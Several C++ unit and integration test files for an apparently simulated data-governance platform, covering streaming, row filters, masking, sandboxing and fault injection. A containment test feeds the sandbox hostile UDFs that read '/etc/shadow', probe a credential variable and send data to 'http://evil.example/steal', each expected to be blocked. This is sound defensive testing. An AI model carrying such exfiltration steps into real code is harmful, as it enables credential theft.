  EXPECT_LE(stats.batches_scanned, 3u);
  EXPECT_GE(stats.batches_scanned, 2u);  // 12 rows genuinely span 2 batches
  EXPECT_LE(stats.rows_scanned, 24u);
  auto combined = *table.Combine();
  for (size_t i = 0; i < 12; ++i) {
    EXPECT_EQ(combined.CellAt(i, 0).int_value(), static_cast<int64_t>(i));
  }
}

TEST_F(StreamingTest, CollectAllWrapperMatchesStreamedResult) {
  Table eager = MustSql("SELECT a, b FROM main.s.data WHERE b = 3");
  auto [streamed, stats] =
      RunStreaming("SELECT a, b FROM main.s.data WHERE b = 3");
  (void)stats;
  EXPECT_TRUE(eager.Equals(streamed));
}

// ---- Iterator primitives ----------------------------------------------------------

TEST_F(StreamingTest, TableIteratorReslicesToMaxRows) {
  TableBuilder builder(Schema({{"v", TypeKind::kInt64, false}}));
  for (int i = 0; i < 20; ++i) {
    ASSERT_TRUE(builder.AppendRow({Value::Int(i)}).ok());
  }
  BatchIteratorPtr it = MakeTableIterator(builder.Build(), 6);
  size_t batches = 0, rows = 0;
  while (true) {
    auto batch = it->Next();
    ASSERT_TRUE(batch.ok());
    if (!batch->has_value()) break;
    EXPECT_LE((*batch)->num_rows(), 6u);
    ++batches;
    rows += (*batch)->num_rows();
  }
  EXPECT_EQ(rows, 20u);
  EXPECT_EQ(batches, 4u);  // 6+6+6+2
}

// ---- Connect: lazy chunk production ----------------------------------------------

RecordBatch BigBatch(int64_t rows) {
  TableBuilder builder(Schema({{"i", TypeKind::kInt64, false},
                               {"tag", TypeKind::kString, false}}));
  for (int64_t i = 0; i < rows; ++i) {
    EXPECT_TRUE(
        builder.AppendRow({Value::Int(i), Value::String("r" + std::to_string(i))})
            .ok());
  }
  return *builder.Build().Combine();
}

class ConnectStreamingTest : public ::testing::Test {
 protected:
  ConnectStreamingTest() {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    platform_.AddMetastoreAdmin("admin");
    platform_.RegisterToken("tok", "admin");
    cluster_ = platform_.CreateStandardCluster();
  }

  LakeguardPlatform platform_;
  ClusterHandle* cluster_ = nullptr;
};

TEST_F(ConnectStreamingTest, ChunksAreProducedLazilyAndReplayedExactly) {
  auto client = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(client.ok());
  DataFrame df = client->FromBatch(BigBatch(6000));

  ConnectRequest request;
  request.session_id = client->session_id();
  request.auth_token = "tok";
  request.operation_id = "op-lazy";
  request.plan_bytes = PlanToBytes(df.plan());
  ConnectResponse response = cluster_->service->Execute(request);
  ASSERT_TRUE(response.ok) << response.error_message;

  // 6000 rows = 6 chunks of <=1024. Execute probes only past the inline
  // limit: 5 chunks are cut eagerly, the rest stays in the live stream.
  EXPECT_TRUE(response.streaming);
  EXPECT_TRUE(response.inline_chunks.empty());
  EXPECT_EQ(response.total_chunks, 5u);
  EXPECT_EQ(cluster_->service->service_stats().lazy_chunks, 0u);

  const std::string& sess = client->session_id();
  // A re-fetched buffered index replays the cached frame byte-for-byte; the
  // stream is never pulled for it.
  auto chunk3 = cluster_->service->FetchChunk(sess, "op-lazy", 3);
  auto chunk3_again = cluster_->service->FetchChunk(sess, "op-lazy", 3);
  ASSERT_TRUE(chunk3.ok());
  ASSERT_TRUE(chunk3_again.ok());
  EXPECT_EQ(chunk3->frame, chunk3_again->frame);
  EXPECT_FALSE(chunk3->last);
  EXPECT_EQ(cluster_->service->service_stats().lazy_chunks, 0u);

  // Fetching past the buffered frames pulls the stream on demand.
  auto chunk5 = cluster_->service->FetchChunk(sess, "op-lazy", 5);
  ASSERT_TRUE(chunk5.ok()) << chunk5.status();
  EXPECT_TRUE(chunk5->last);
  EXPECT_EQ(cluster_->service->service_stats().lazy_chunks, 1u);

  // Serving the last chunk released every cached frame (the client has the
  // whole result): re-fetching a released index is a typed error, and the
  // stream is never pulled again.
  EXPECT_TRUE(cluster_->service->FetchChunk(sess, "op-lazy", 5)
                  .status()
                  .IsInvalidArgument());
  EXPECT_TRUE(cluster_->service->FetchChunk(sess, "op-lazy", 3)
                  .status()
                  .IsInvalidArgument());
  EXPECT_EQ(cluster_->service->service_stats().lazy_chunks, 1u);
  EXPECT_GE(cluster_->service->service_stats().completed_releases, 1u);

  // Past the end of an exhausted stream is a typed error, not a hang.
  EXPECT_TRUE(cluster_->service->FetchChunk(sess, "op-lazy", 6)
                  .status()
                  .IsInvalidArgument());
}

TEST_F(ConnectStreamingTest, ClientDrainsLazyStreamToExactRows) {
  auto client = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(client.ok());
  const int64_t kRows = 7500;  // 8 chunks: 5 probed + 3 lazy
  auto table = client->FromBatch(BigBatch(kRows)).Collect();
  ASSERT_TRUE(table.ok()) << table.status();
  auto combined = *table->Combine();
  ASSERT_EQ(combined.num_rows(), static_cast<size_t>(kRows));
  for (int64_t i = 0; i < kRows; i += 977) {
    EXPECT_EQ(combined.CellAt(static_cast<size_t>(i), 0).int_value(), i);
  }
  EXPECT_EQ(combined.CellAt(static_cast<size_t>(kRows - 1), 1).string_value(),
            "r" + std::to_string(kRows - 1));
  EXPECT_EQ(cluster_->service->service_stats().lazy_chunks, 3u);
}

TEST_F(ConnectStreamingTest, SmallResultsStayFullyInline) {
  auto client = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(client.ok());
  DataFrame df = client->FromBatch(BigBatch(100));
  ConnectRequest request;
  request.session_id = client->session_id();
  request.auth_token = "tok";
  request.plan_bytes = PlanToBytes(df.plan());
  ConnectResponse response = cluster_->service->Execute(request);
  ASSERT_TRUE(response.ok) << response.error_message;
  EXPECT_FALSE(response.streaming);
  ASSERT_EQ(response.inline_chunks.size(), 1u);
  EXPECT_TRUE(response.inline_chunks[0].last);
}

TEST_F(ConnectStreamingTest, StreamingFlagSurvivesTheWire) {
  ConnectResponse response;
  response.ok = true;
  response.operation_id = "op";
  response.streaming = true;
  response.total_chunks = 5;
  auto decoded = DecodeResponse(EncodeResponse(response));
  ASSERT_TRUE(decoded.ok());
  EXPECT_TRUE(decoded->streaming);
  EXPECT_EQ(decoded->total_chunks, 5u);
}

}  // namespace
}  // namespace lakeguard
