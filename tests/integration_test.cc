// Cross-module integration and security-property tests — the invariants of
// DESIGN.md §5, exercised through the full platform: no policy bypass on
// any access path, sandbox containment for arbitrary hostile code, fusion
// soundness, and multi-user isolation end to end.

#include <gtest/gtest.h>

#include <set>

#include "core/platform.h"
#include "sql/parser.h"
#include "udf/builder.h"

namespace lakeguard {
namespace {

/// A platform with the paper's healthcare/sales shape: one FGAC-governed
/// table, one PII-hiding view, three users with different rights.
class IntegrationFixture : public ::testing::Test {
 protected:
  IntegrationFixture() { Init(QueryEngineConfig{}); }

  explicit IntegrationFixture(QueryEngineConfig config) { Init(config); }

  void Init(QueryEngineConfig config) {
    LakeguardPlatform::Options options;
    options.engine_config = config;
    platform_ = std::make_unique<LakeguardPlatform>(options);
    ASSERT_TRUE(platform_->AddUser("admin").ok());
    ASSERT_TRUE(platform_->AddUser("us_analyst").ok());
    ASSERT_TRUE(platform_->AddUser("global_analyst").ok());
    ASSERT_TRUE(platform_->AddUser("outsider").ok());
    ASSERT_TRUE(platform_->AddGroup("global").ok());
    ASSERT_TRUE(platform_->AddUserToGroup("global_analyst", "global").ok());
    platform_->AddMetastoreAdmin("admin");
    for (const char* u : {"admin", "us_analyst", "global_analyst",
                          "outsider"}) {
      platform_->RegisterToken(std::string("tok-") + u, u);
    }
    ASSERT_TRUE(platform_->catalog().CreateCatalog("admin", "main").ok());
    ASSERT_TRUE(platform_->catalog().CreateSchema("admin", "main.s").ok());
    cluster_ = platform_->CreateStandardCluster();
    admin_ctx_ = *platform_->DirectContext(cluster_, "admin");

    Must("CREATE TABLE main.s.sales ("
         "region STRING, amount BIGINT, ssn STRING)");
    Must("INSERT INTO main.s.sales VALUES "
         "('US', 10, '111-11-1111'), ('US', 20, '222-22-2222'), "
         "('EU', 30, '333-33-3333'), ('APAC', 40, '444-44-4444')");
    Must("ALTER TABLE main.s.sales SET ROW FILTER "
         "(region = 'US' OR IS_ACCOUNT_GROUP_MEMBER('global'))");
    Must("ALTER TABLE main.s.sales ALTER COLUMN ssn SET MASK (MASK(ssn))");
    for (const char* u : {"us_analyst", "global_analyst"}) {
      Must(std::string("GRANT USE CATALOG ON main TO ") + u);
      Must(std::string("GRANT USE SCHEMA ON main.s TO ") + u);
      Must(std::string("GRANT SELECT ON main.s.sales TO ") + u);
    }
  }

  void Must(const std::string& sql) {
    auto result = cluster_->engine->ExecuteSql(sql, admin_ctx_);
    ASSERT_TRUE(result.ok()) << sql << " -> " << result.status();
  }

  /// The ground truth: rows of `sales` the policy allows `user` to see.
  size_t ExpectedVisibleRows(const std::string& user) {
    if (user == "admin") return 4;  // owner bypass... admin is owner
    if (platform_->catalog().users().IsMember(user, "global")) return 4;
    return 2;  // US rows only
  }

  std::unique_ptr<LakeguardPlatform> platform_;
  ClusterHandle* cluster_ = nullptr;
  ExecutionContext admin_ctx_;
};

// ---- Invariant: no policy bypass on any access path --------------------------------------

class PolicyBypassTest
    : public IntegrationFixture,
      public ::testing::WithParamInterface<std::tuple<const char*, int>> {};

TEST_P(PolicyBypassTest, VisibleRowsMatchPolicyOnEveryPath) {
  auto [user, path] = GetParam();
  const std::string user_s(user);

  size_t rows = 0;
  std::string first_ssn;
  switch (path) {
    case 0: {  // SQL over the Connect wire
      auto client = platform_->Connect(cluster_, "tok-" + user_s);
      ASSERT_TRUE(client.ok());
      auto result =
          client->Sql("SELECT region, ssn FROM main.s.sales");
      ASSERT_TRUE(result.ok()) << result.status();
      rows = result->num_rows();
      if (rows > 0) first_ssn = result->Combine()->CellAt(0, 1).ToString();
      break;
    }
    case 1: {  // DataFrame API
      auto client = platform_->Connect(cluster_, "tok-" + user_s);
      ASSERT_TRUE(client.ok());
      auto result = client->ReadTable("main.s.sales")
                        .Select({Col("region"), Col("ssn")},
                                {"region", "ssn"})
                        .Collect();
      ASSERT_TRUE(result.ok()) << result.status();
      rows = result->num_rows();
      if (rows > 0) first_ssn = result->Combine()->CellAt(0, 1).ToString();
      break;
    }
    case 2: {  // aggregation must count only policy-visible rows
      auto client = platform_->Connect(cluster_, "tok-" + user_s);
      ASSERT_TRUE(client.ok());
      auto result =
          client->Sql("SELECT COUNT(*) AS n FROM main.s.sales");
      ASSERT_TRUE(result.ok());
      rows = static_cast<size_t>(
          result->Combine()->CellAt(0, 0).int_value());
      break;
    }
    case 3: {  // eFGAC from a dedicated cluster
      ClusterHandle* dedicated =
          platform_->CreateDedicatedCluster(user_s, false);
      auto ctx = platform_->DirectContext(dedicated, user_s);
      ASSERT_TRUE(ctx.ok());
      auto result = dedicated->engine->ExecuteSql(
          "SELECT region, ssn FROM main.s.sales", *ctx);
      ASSERT_TRUE(result.ok()) << result.status();
      rows = result->num_rows();
      if (rows > 0) first_ssn = result->Combine()->CellAt(0, 1).ToString();
      break;
    }
  }
  EXPECT_EQ(rows, ExpectedVisibleRows(user_s)) << user_s << " path " << path;
  if (!first_ssn.empty() && user_s != "admin") {
    // Masks hold on every path too.
    EXPECT_EQ(first_ssn.find("111-11"), std::string::npos);
    EXPECT_NE(first_ssn.find("****"), std::string::npos);
  }
}

INSTANTIATE_TEST_SUITE_P(
    UsersTimesPaths, PolicyBypassTest,
    ::testing::Combine(::testing::Values("us_analyst", "global_analyst"),
                       ::testing::Values(0, 1, 2, 3)));

TEST_F(IntegrationFixture, OutsiderDeniedOnEveryPath) {
  auto client = platform_->Connect(cluster_, "tok-outsider");
  ASSERT_TRUE(client.ok());
  EXPECT_FALSE(client->Sql("SELECT * FROM main.s.sales").ok());
  EXPECT_FALSE(client->ReadTable("main.s.sales").Collect().ok());
  ClusterHandle* dedicated =
      platform_->CreateDedicatedCluster("outsider", false);
  auto ctx = *platform_->DirectContext(dedicated, "outsider");
  EXPECT_FALSE(
      dedicated->engine->ExecuteSql("SELECT * FROM main.s.sales", ctx).ok());
}

// ---- Invariant: sandbox containment for hostile code ---------------------------------------

class ContainmentTest : public IntegrationFixture,
                        public ::testing::WithParamInterface<int> {};

TEST_P(ContainmentTest, HostileUdfNeverReachesTheMachine) {
  SimulatedHostEnvironment& host = cluster_->cluster->driver_host().env();
  host.SetEnv("INSTANCE_CREDENTIAL", "top-secret");
  host.WriteFile("/etc/shadow", "root:hash");

  UdfBytecode hostile;
  switch (GetParam()) {
    case 0:
      hostile = canned::FileExfiltrationUdf("/etc/shadow");
      break;
    case 1:
      hostile = canned::EnvProbeUdf("INSTANCE_CREDENTIAL");
      break;
    case 2:
      hostile = canned::NetworkExfiltrationUdf("http://evil.example/steal");
      break;
    case 3:
      hostile = canned::InfiniteLoopUdf();
      break;
    case 4: {  // write attempt
      UdfBuilder b("writer", 0, TypeKind::kBool);
      b.PushConst(Value::String("/tmp/pwned"));
      b.PushConst(Value::String("gotcha"));
      b.CallHost(HostFn::kWriteFile, 2);
      b.Ret();
      hostile = *b.Build();
      break;
    }
  }
  FunctionInfo fn;
  fn.full_name = "main.s.hostile";
  fn.num_args = hostile.num_args;
  fn.return_type = TypeKind::kString;
  fn.body = hostile;
  ASSERT_TRUE(platform_->catalog().CreateFunction("admin", fn).ok());
  ASSERT_TRUE(platform_->catalog()
                  .Grant("admin", "main.s.hostile", Privilege::kExecute,
                         "us_analyst")
                  .ok());

  auto client = platform_->Connect(cluster_, "tok-us_analyst");
  ASSERT_TRUE(client.ok());
  std::string args = hostile.num_args == 0 ? "()" : "(ssn)";
  auto result = client->Sql("SELECT main.s.hostile" + args +
                            " AS r FROM main.s.sales");
  // Every hostile program must FAIL — statically at admission
  // (failed_precondition from PV008, invalid_argument for guaranteed
  // divergence) or dynamically in the sandbox (permission_denied,
  // resource_exhausted) — and must not have altered the machine.
  ASSERT_FALSE(result.ok());
  const std::string& message = result.status().message();
  EXPECT_TRUE(message.find("permission_denied") != std::string::npos ||
              message.find("resource_exhausted") != std::string::npos ||
              message.find("failed_precondition") != std::string::npos ||
              message.find("invalid_argument") != std::string::npos)
      << result.status();
  EXPECT_FALSE(host.FileExists("/tmp/pwned"));
  // No egress left the machine.
  for (const EgressRecord& r : host.egress_log()) {
    EXPECT_FALSE(r.allowed) << r.url;
  }
}

INSTANTIATE_TEST_SUITE_P(HostilePrograms, ContainmentTest,
                         ::testing::Range(0, 5));

// ---- Invariant: fusion soundness ------------------------------------------------------------

class FusionSoundnessTest : public ::testing::Test {
 protected:
  Table RunWith(bool fuse, bool isolate) {
    LakeguardPlatform::Options options;
    options.engine_config.exec.fuse_udfs = fuse;
    options.engine_config.exec.isolate_udfs = isolate;
    options.engine_config.opt.enable_fusion = fuse;
    LakeguardPlatform platform(options);
    EXPECT_TRUE(platform.AddUser("admin").ok());
    platform.AddMetastoreAdmin("admin");
    EXPECT_TRUE(platform.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform.catalog().CreateSchema("admin", "main.s").ok());
    ClusterHandle* cluster = platform.CreateStandardCluster();
    auto ctx = *platform.DirectContext(cluster, "admin");
    EXPECT_TRUE(cluster->engine
                    ->ExecuteSql("CREATE TABLE main.s.t (a BIGINT, b BIGINT)",
                                 ctx)
                    .ok());
    EXPECT_TRUE(cluster->engine
                    ->ExecuteSql("INSERT INTO main.s.t VALUES "
                                 "(1, 2), (3, 4), (5, 6), (7, 8)",
                                 ctx)
                    .ok());
    for (const char* name : {"f1", "f2", "f3"}) {
      FunctionInfo fn;
      fn.full_name = std::string("main.s.") + name;
      fn.num_args = 2;
      fn.return_type = TypeKind::kInt64;
      fn.body = canned::SumUdf();
      EXPECT_TRUE(platform.catalog().CreateFunction("admin", fn).ok());
    }
    auto result = cluster->engine->ExecuteSql(
        "SELECT main.s.f1(a, b) AS s1, main.s.f2(a, 10) AS s2, "
        "main.s.f3(b, 100) AS s3, a + b AS plain "
        "FROM main.s.t ORDER BY s1",
        ctx);
    EXPECT_TRUE(result.ok()) << result.status();
    return result.ok() ? *result : Table();
  }
};

TEST_F(FusionSoundnessTest, FusedUnfusedIsolatedUnisolatedAllAgree) {
  Table fused_isolated = RunWith(true, true);
  Table unfused_isolated = RunWith(false, true);
  Table fused_inproc = RunWith(true, false);
  Table unfused_inproc = RunWith(false, false);
  ASSERT_EQ(fused_isolated.num_rows(), 4u);
  EXPECT_TRUE(fused_isolated.Equals(unfused_isolated));
  EXPECT_TRUE(fused_isolated.Equals(fused_inproc));
  EXPECT_TRUE(fused_isolated.Equals(unfused_inproc));
}

TEST_F(FusionSoundnessTest, FusionUsesFewerSandboxBoundaryCrossings) {
  auto run = [](bool fuse) -> uint64_t {
    LakeguardPlatform::Options options;
    options.engine_config.exec.fuse_udfs = fuse;
    LakeguardPlatform platform(options);
    EXPECT_TRUE(platform.AddUser("admin").ok());
    platform.AddMetastoreAdmin("admin");
    EXPECT_TRUE(platform.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform.catalog().CreateSchema("admin", "main.s").ok());
    ClusterHandle* cluster = platform.CreateStandardCluster();
    auto ctx = *platform.DirectContext(cluster, "admin");
    EXPECT_TRUE(
        cluster->engine
            ->ExecuteSql("CREATE TABLE main.s.t (a BIGINT, b BIGINT)", ctx)
            .ok());
    EXPECT_TRUE(cluster->engine
                    ->ExecuteSql("INSERT INTO main.s.t VALUES (1, 2)", ctx)
                    .ok());
    for (const char* name : {"g1", "g2", "g3", "g4"}) {
      FunctionInfo fn;
      fn.full_name = std::string("main.s.") + name;
      fn.num_args = 2;
      fn.return_type = TypeKind::kInt64;
      fn.body = canned::SumUdf();
      EXPECT_TRUE(platform.catalog().CreateFunction("admin", fn).ok());
    }
    EXPECT_TRUE(cluster->engine
                    ->ExecuteSql(
                        "SELECT main.s.g1(a,b) AS x1, main.s.g2(a,b) AS x2, "
                        "main.s.g3(a,b) AS x3, main.s.g4(a,b) AS x4 "
                        "FROM main.s.t",
                        ctx)
                    .ok());
    // Count boundary crossings across all sandboxes of the driver host.
    return platform.clusters()
        .ActiveClusters()[1]  // [0] is the serverless backbone
        ->driver_host()
        .dispatcher()
        .stats()
        .cold_starts;
  };
  uint64_t fused_sandboxes = run(true);
  uint64_t unfused_sandboxes = run(false);
  EXPECT_EQ(fused_sandboxes, 1u);   // one trust domain -> one sandbox
  EXPECT_EQ(unfused_sandboxes, 4u); // one per UDF without fusion
}

// ---- Multi-user session isolation end to end -----------------------------------------------

TEST_F(IntegrationFixture, ConcurrentSessionsSeeTheirOwnWorld) {
  auto us = platform_->Connect(cluster_, "tok-us_analyst");
  auto global = platform_->Connect(cluster_, "tok-global_analyst");
  ASSERT_TRUE(us.ok());
  ASSERT_TRUE(global.ok());
  // Interleaved queries on the same cluster.
  for (int i = 0; i < 3; ++i) {
    auto us_rows = us->Sql("SELECT COUNT(*) AS n FROM main.s.sales");
    auto global_rows = global->Sql("SELECT COUNT(*) AS n FROM main.s.sales");
    ASSERT_TRUE(us_rows.ok());
    ASSERT_TRUE(global_rows.ok());
    EXPECT_EQ(us_rows->Combine()->CellAt(0, 0).int_value(), 2);
    EXPECT_EQ(global_rows->Combine()->CellAt(0, 0).int_value(), 4);
  }
}

TEST_F(IntegrationFixture, AuditAttributesEveryAccess) {
  auto us = platform_->Connect(cluster_, "tok-us_analyst");
  ASSERT_TRUE(us.ok());
  ASSERT_TRUE(us->Sql("SELECT amount FROM main.s.sales").ok());
  auto events = platform_->catalog().audit().ForPrincipal("us_analyst");
  bool resolved = false;
  for (const AuditEvent& e : events) {
    if (e.action == "RESOLVE_RELATION" && e.securable == "main.s.sales" &&
        e.allowed) {
      resolved = true;
      EXPECT_EQ(e.compute_id, cluster_->cluster->id());
    }
  }
  EXPECT_TRUE(resolved);
}

TEST_F(IntegrationFixture, RevocationTakesEffectOnNextQuery) {
  auto us = platform_->Connect(cluster_, "tok-us_analyst");
  ASSERT_TRUE(us.ok());
  ASSERT_TRUE(us->Sql("SELECT amount FROM main.s.sales").ok());
  Must("REVOKE SELECT ON main.s.sales FROM us_analyst");
  EXPECT_FALSE(us->Sql("SELECT amount FROM main.s.sales").ok());
}

TEST_F(IntegrationFixture, PolicyChangeAppliesImmediately) {
  auto us = platform_->Connect(cluster_, "tok-us_analyst");
  ASSERT_TRUE(us.ok());
  auto before = us->Sql("SELECT COUNT(*) AS n FROM main.s.sales");
  EXPECT_EQ(before->Combine()->CellAt(0, 0).int_value(), 2);
  Must("ALTER TABLE main.s.sales DROP ROW FILTER");
  auto after = us->Sql("SELECT COUNT(*) AS n FROM main.s.sales");
  EXPECT_EQ(after->Combine()->CellAt(0, 0).int_value(), 4);
}

TEST_F(IntegrationFixture, ViewOverFgacTableComposesPolicies) {
  Must("CREATE VIEW main.s.summed AS "
       "SELECT region, SUM(amount) AS total FROM main.s.sales "
       "GROUP BY region");
  Must("GRANT SELECT ON main.s.summed TO us_analyst");
  auto us = platform_->Connect(cluster_, "tok-us_analyst");
  ASSERT_TRUE(us.ok());
  auto rows = us->Sql("SELECT region, total FROM main.s.summed");
  ASSERT_TRUE(rows.ok()) << rows.status();
  // View owner (admin) sees all rows; the view definition runs with
  // definer's rights, so the row filter evaluates for... the querying user
  // via CURRENT_USER/IS_MEMBER. us_analyst is not in 'global': only US.
  EXPECT_EQ(rows->num_rows(), 1u);
  EXPECT_EQ(rows->Combine()->CellAt(0, 1).int_value(), 30);
}

}  // namespace
}  // namespace lakeguard
