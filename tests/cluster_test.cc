// Tests for src/cluster: cluster admission per type, host wiring, and the
// slot-pool utilization simulation.

#include <gtest/gtest.h>

#include "cluster/cluster.h"
#include "cluster/slot_pool.h"

namespace lakeguard {
namespace {

class ClusterTest : public ::testing::Test {
 protected:
  ClusterTest() : clock_(0) {
    EXPECT_TRUE(directory_.AddUser("alice").ok());
    EXPECT_TRUE(directory_.AddUser("bob").ok());
    EXPECT_TRUE(directory_.AddUser("carol").ok());
    EXPECT_TRUE(directory_.AddGroup("team").ok());
    EXPECT_TRUE(directory_.AddUserToGroup("alice", "team").ok());
    EXPECT_TRUE(directory_.AddUserToGroup("bob", "team").ok());
  }

  SimulatedClock clock_;
  UserDirectory directory_;
};

TEST_F(ClusterTest, StandardAdmitsEveryoneWithIsolation) {
  ClusterConfig config;
  config.type = ClusterType::kStandard;
  Cluster cluster(config, &clock_, &directory_);
  for (const char* u : {"alice", "bob", "carol"}) {
    auto ctx = cluster.AttachUser(u);
    ASSERT_TRUE(ctx.ok());
    EXPECT_TRUE(ctx->can_isolate_user_code);
    EXPECT_FALSE(ctx->privileged_access);
    EXPECT_TRUE(ctx->downscope_group.empty());
    EXPECT_EQ(ctx->compute_id, cluster.id());
  }
}

TEST_F(ClusterTest, DedicatedSingleUser) {
  ClusterConfig config;
  config.type = ClusterType::kDedicated;
  config.assigned_principal = "alice";
  Cluster cluster(config, &clock_, &directory_);
  auto alice = cluster.AttachUser("alice");
  ASSERT_TRUE(alice.ok());
  EXPECT_TRUE(alice->privileged_access);
  EXPECT_FALSE(alice->can_isolate_user_code);
  EXPECT_TRUE(cluster.AttachUser("bob").status().IsPermissionDenied());
}

TEST_F(ClusterTest, DedicatedGroupDownscopes) {
  ClusterConfig config;
  config.type = ClusterType::kDedicated;
  config.assigned_principal = "team";
  config.assigned_is_group = true;
  Cluster cluster(config, &clock_, &directory_);
  auto alice = cluster.AttachUser("alice");
  ASSERT_TRUE(alice.ok());
  EXPECT_EQ(alice->downscope_group, "team");
  EXPECT_TRUE(cluster.AttachUser("carol").status().IsPermissionDenied());
}

TEST_F(ClusterTest, DedicatedWithoutPrincipalFails) {
  ClusterConfig config;
  config.type = ClusterType::kDedicated;
  Cluster cluster(config, &clock_, &directory_);
  EXPECT_TRUE(cluster.AttachUser("alice").status().IsFailedPrecondition());
}

TEST_F(ClusterTest, HostsHaveIndependentDispatchers) {
  ClusterConfig config;
  config.num_hosts = 3;
  Cluster cluster(config, &clock_, &directory_);
  EXPECT_EQ(cluster.hosts().size(), 3u);
  ASSERT_TRUE(cluster.hosts()[0]
                  ->dispatcher()
                  .Acquire("s", "o", SandboxPolicy::LockedDown())
                  .ok());
  EXPECT_EQ(cluster.hosts()[0]->dispatcher().ActiveSandboxCount(), 1u);
  EXPECT_EQ(cluster.hosts()[1]->dispatcher().ActiveSandboxCount(), 0u);
}

TEST_F(ClusterTest, ManagerLifecycle) {
  ClusterManager manager(&clock_, &directory_);
  std::string id1 = manager.CreateCluster({})->id();
  std::string id2 = manager.CreateCluster({})->id();
  EXPECT_EQ(manager.ActiveClusters().size(), 2u);
  EXPECT_TRUE(manager.GetCluster(id1).ok());
  EXPECT_TRUE(manager.TerminateCluster(id1).ok());
  EXPECT_EQ(manager.ActiveClusters().size(), 1u);
  EXPECT_TRUE(manager.GetCluster(id1).status().IsNotFound());
  EXPECT_TRUE(manager.GetCluster(id2).ok());
}

// ---- Slot-pool simulation ------------------------------------------------------------

TEST(SlotPoolTest, SequentialOnOneSlot) {
  SlotPool pool(1);
  std::vector<SimJob> jobs = {{"u", 0, 100, true}, {"u", 0, 100, true}};
  SimResult r = pool.Run(jobs);
  EXPECT_EQ(r.makespan_micros, 200);
  EXPECT_DOUBLE_EQ(r.mean_wait_micros, 50.0);  // 0 and 100
  EXPECT_DOUBLE_EQ(r.utilization, 1.0);
}

TEST(SlotPoolTest, ParallelOnTwoSlots) {
  SlotPool pool(2);
  std::vector<SimJob> jobs = {{"u", 0, 100, true}, {"v", 0, 100, true}};
  SimResult r = pool.Run(jobs);
  EXPECT_EQ(r.makespan_micros, 100);
  EXPECT_DOUBLE_EQ(r.mean_wait_micros, 0.0);
  EXPECT_DOUBLE_EQ(r.utilization, 1.0);
}

TEST(SlotPoolTest, IdleCapacityLowersUtilization) {
  SlotPool pool(4);
  std::vector<SimJob> jobs = {{"u", 0, 100, true}};
  SimResult r = pool.Run(jobs);
  EXPECT_DOUBLE_EQ(r.utilization, 0.25);
}

TEST(SlotPoolTest, EmptyJobsIsZero) {
  SlotPool pool(4);
  SimResult r = pool.Run({});
  EXPECT_EQ(r.makespan_micros, 0);
  EXPECT_EQ(r.jobs, 0u);
}

TEST(SlotPoolTest, PartitionedPoolsStrandCapacity) {
  // Two users, bursty: user A sends 4 jobs, user B none at that time.
  std::vector<SimJob> jobs;
  for (int i = 0; i < 4; ++i) jobs.push_back({"A", 0, 100, true});
  // Shared pool of 4 slots finishes in 100; per-user pools of 2 slots each
  // give A only 2 slots -> 200.
  SimResult shared = SlotPool(4).Run(jobs);
  SimResult split = RunPartitionedPools(
      jobs, 2, [](const SimJob& j) { return j.user; });
  EXPECT_EQ(shared.makespan_micros, 100);
  EXPECT_EQ(split.makespan_micros, 200);
  EXPECT_GT(shared.utilization, split.utilization - 1e-9);
}

}  // namespace
}  // namespace lakeguard
