// Tests for src/common/fault + src/common/retry: fault-injection
// determinism, scoped-guard cleanup, backoff schedule math and retry-loop
// semantics under SimulatedClock.

#include <gtest/gtest.h>

#include <vector>

#include "common/fault.h"
#include "common/retry.h"

namespace lakeguard {
namespace {

/// Every test starts from a clean, reseeded injector and leaves it clean.
class FaultInjectorTest : public ::testing::Test {
 protected:
  void SetUp() override {
    FaultInjector::Instance().Reset();
    FaultInjector::Instance().Reseed(42);
  }
  void TearDown() override { FaultInjector::Instance().Reset(); }
};

TEST_F(FaultInjectorTest, UnarmedPointIsOkAndFree) {
  EXPECT_FALSE(FaultInjector::Instance().AnyArmed());
  EXPECT_TRUE(fault::Inject("nothing.armed").ok());
  EXPECT_EQ(FaultInjector::Instance().StatsFor("nothing.armed").evaluations,
            0u);
}

TEST_F(FaultInjectorTest, FailTimesFiresExactlyNTimes) {
  ScopedFault guard("p.count", FaultPolicy::FailTimes(3));
  int failures = 0;
  for (int i = 0; i < 10; ++i) {
    if (!fault::Inject("p.count").ok()) ++failures;
  }
  EXPECT_EQ(failures, 3);
  EXPECT_EQ(guard.injected(), 3u);
  EXPECT_EQ(FaultInjector::Instance().StatsFor("p.count").evaluations, 10u);
}

TEST_F(FaultInjectorTest, InjectedStatusCarriesCodeAndPointName) {
  ScopedFault guard("p.typed",
                    FaultPolicy::FailTimes(1, StatusCode::kDeadlineExceeded));
  Status s = fault::Inject("p.typed");
  EXPECT_EQ(s.code(), StatusCode::kDeadlineExceeded);
  EXPECT_NE(s.message().find("p.typed"), std::string::npos);
}

TEST_F(FaultInjectorTest, ProbabilityStreamIsDeterministicPerSeed) {
  auto run = [](uint64_t seed) {
    FaultInjector::Instance().Reseed(seed);
    ScopedFault guard("p.prob", FaultPolicy::FailWithProbability(0.5));
    std::vector<bool> fired;
    for (int i = 0; i < 64; ++i) fired.push_back(!fault::Inject("p.prob").ok());
    return fired;
  };
  std::vector<bool> a = run(7);
  std::vector<bool> b = run(7);
  std::vector<bool> c = run(8);
  EXPECT_EQ(a, b);          // same seed -> same fault sequence
  EXPECT_NE(a, c);          // different seed -> different sequence
  // Sanity: 0.5 probability actually fires sometimes and spares sometimes.
  EXPECT_NE(std::count(a.begin(), a.end(), true), 0);
  EXPECT_NE(std::count(a.begin(), a.end(), false), 0);
}

TEST_F(FaultInjectorTest, StreamsAreIndependentOfArmingOrder) {
  auto run = [](bool arm_b_first) {
    FaultInjector::Instance().Reseed(99);
    std::vector<bool> fired;
    if (arm_b_first) {
      ScopedFault gb("p.b", FaultPolicy::FailWithProbability(0.3));
      ScopedFault ga("p.a", FaultPolicy::FailWithProbability(0.3));
      for (int i = 0; i < 32; ++i) fired.push_back(!fault::Inject("p.a").ok());
    } else {
      ScopedFault ga("p.a", FaultPolicy::FailWithProbability(0.3));
      ScopedFault gb("p.b", FaultPolicy::FailWithProbability(0.3));
      for (int i = 0; i < 32; ++i) fired.push_back(!fault::Inject("p.a").ok());
    }
    return fired;
  };
  EXPECT_EQ(run(false), run(true));
}

